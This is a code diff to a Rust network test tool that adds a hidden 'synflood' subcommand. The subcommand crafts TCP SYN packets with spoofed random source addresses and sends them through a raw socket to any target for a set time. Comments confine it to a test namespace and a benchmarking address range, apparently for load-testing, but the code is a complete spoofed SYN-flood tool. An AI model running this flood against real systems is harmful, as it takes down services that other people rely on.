@@ -71,6 +71,27 @@ enum Cmd {
     /// Connect to a server and print who answered.
     #[command(hide = true)]
     Client(ClientArgs),
+    /// Send TCP SYNs with spoofed random sources as fast as possible (a raw
+    /// socket; root, in a test namespace only).
+    #[command(hide = true)]
+    Synflood(SynfloodArgs),
+}
+
+#[derive(Args)]
+struct SynfloodArgs {
+    /// The address SYNs go to.
+    #[arg(long)]
+    to: std::net::SocketAddrV4,
+    /// The block the spoofed sources are drawn from (default: the
+    /// benchmarking range, never a real host's).
+    #[arg(long, default_value = "198.18.0.0/15")]
+    sources: String,
+    /// How long to send.
+    #[arg(long, default_value_t = 10_000)]
+    duration_ms: u64,
+    /// Distinct SYNs prepared (source address and port), sent in turn.
+    #[arg(long, default_value_t = 65_536)]
+    flows: u32,
 }
 
 #[derive(Args)]
@@ -134,6 +155,7 @@ fn main() -> ExitCode {
     let cli = Cli::parse();
     let result = match cli.command {
         Some(Cmd::Client(args)) => client(args),
+        Some(Cmd::Synflood(args)) => synflood(&args).map(|()| true),
         None => server(cli.server).map(|()| true),
     };
     match result {
@@ -574,4 +596,126 @@ fn hold(addr: SocketAddr, duration: Duration, timeout: Duration) -> bool {
         Ok(conn)
     })();
     report(start, result, replies)
+}
+
+/// `a.b.c.d/len` as (first address, number of addresses).
+fn parse_block(block: &str) -> Result<(u32, u32)> {
+    let (addr, len) = block
+        .split_once('/')
+        .ok_or_else(|| anyhow::anyhow!("{block:?} is not a.b.c.d/len"))?;
+    let addr: std::net::Ipv4Addr = addr.parse().with_context(|| format!("{block:?}: address"))?;
+    let len: u32 = len.parse().with_context(|| format!("{block:?}: length"))?;
+    anyhow::ensure!((8..=32).contains(&len), "{block:?}: length must be 8..=32");
+    let size = 1u32 << (32 - len);
+    Ok((u32::from(addr) & !(size - 1), size))
+}
+
+/// The ones'-complement sum of `data` (as 16-bit big-endian words).
+fn csum_add(mut sum: u32, data: &[u8]) -> u32 {
+    for chunk in data.chunks(2) {
+        let word = u16::from_be_bytes([chunk[0], *chunk.get(1).unwrap_or(&0)]);
+        sum += u32::from(word);
+    }
+    sum
+}
+
+fn csum_fold(mut sum: u32) -> u16 {
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    !(sum as u16)
+}
+
+/// An IPv4 packet holding a TCP SYN from `src:sport` to `to`, checksums set.
+fn syn_packet(src: std::net::Ipv4Addr, sport: u16, to: std::net::SocketAddrV4) -> Vec<u8> {
+    let mut p = vec![0u8; 40];
+    p[0] = 0x45;
+    p[2..4].copy_from_slice(&40u16.to_be_bytes());
+    p[8] = 64;
+    p[9] = 6;
+    p[12..16].copy_from_slice(&src.octets());
+    p[16..20].copy_from_slice(&to.ip().octets());
+    let ip_csum = csum_fold(csum_add(0, &p[..20]));
+    p[10..12].copy_from_slice(&ip_csum.to_be_bytes());
+    let t = 20;
+    p[t..t + 2].copy_from_slice(&sport.to_be_bytes());
+    p[t + 2..t + 4].copy_from_slice(&to.port().to_be_bytes());
+    p[t + 4..t + 8].copy_from_slice(&u32::from(sport).wrapping_mul(2_654_435_761).to_be_bytes());
+    p[t + 12] = 5 << 4;
+    p[t + 13] = 0x02;
+    p[t + 14..t + 16].copy_from_slice(&64_240u16.to_be_bytes());
+    let mut pseudo = Vec::with_capacity(12);
+    pseudo.extend_from_slice(&src.octets());
+    pseudo.extend_from_slice(&to.ip().octets());
+    pseudo.extend_from_slice(&[0, 6, 0, 20]);
+    let tcp_csum = csum_fold(csum_add(csum_add(0, &pseudo), &p[t..]));
+    p[t + 16..t + 18].copy_from_slice(&tcp_csum.to_be_bytes());
+    p
+}
+
+/// Sends SYNs from random sources of `--sources` to `--to` until the time is
+/// up, through a raw IPv4 socket; prints `sent N in S s`.
+fn synflood(args: &SynfloodArgs) -> Result<()> {
+    let (base, size) = parse_block(&args.sources)?;
+    // xorshift, seeded from the clock: no two runs alike, no dependency.
+    let mut state = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_nanos() as u64)
+        .unwrap_or(0x9e37_79b9)
+        | 1;
+    let mut next = move || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let packets: Vec<Vec<u8>> = (0..args.flows.max(1))
+        .map(|_| {
+            let r = next();
+            let src = std::net::Ipv4Addr::from(base + (r as u32) % size);
+            let sport = 1024 + ((r >> 32) as u16 % 60_000);
+            syn_packet(src, sport, args.to)
+        })
+        .collect();
+    // SAFETY: socket(2) with constant arguments; the result is checked.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    anyhow::ensure!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
+    let dst = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr {
+            s_addr: u32::from_ne_bytes(args.to.ip().octets()),
+        },
+        sin_zero: [0; 8],
+    };
+    let started = std::time::Instant::now();
+    let until = started + Duration::from_millis(args.duration_ms);
+    let mut sent: u64 = 0;
+    let mut tries: u64 = 0;
+    'send: loop {
+        for packet in &packets {
+            // SAFETY: `packet` and `dst` outlive the call, lengths are theirs.
+            let rc = unsafe {
+                libc::sendto(
+                    fd,
+                    packet.as_ptr().cast(),
+                    packet.len(),
+                    0,
+                    (&dst as *const libc::sockaddr_in).cast(),
+                    std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
+                )
+            };
+            if rc >= 0 {
+                sent += 1;
+            }
+            tries += 1;
+            if tries % 256 == 0 && std::time::Instant::now() >= until {
+                break 'send;
+            }
+        }
+    }
+    // SAFETY: closes the socket opened above, once.
+    unsafe { libc::close(fd) };
+    println!("sent {sent} in {:.2} s", started.elapsed().as_secs_f64());
+    Ok(())
 }
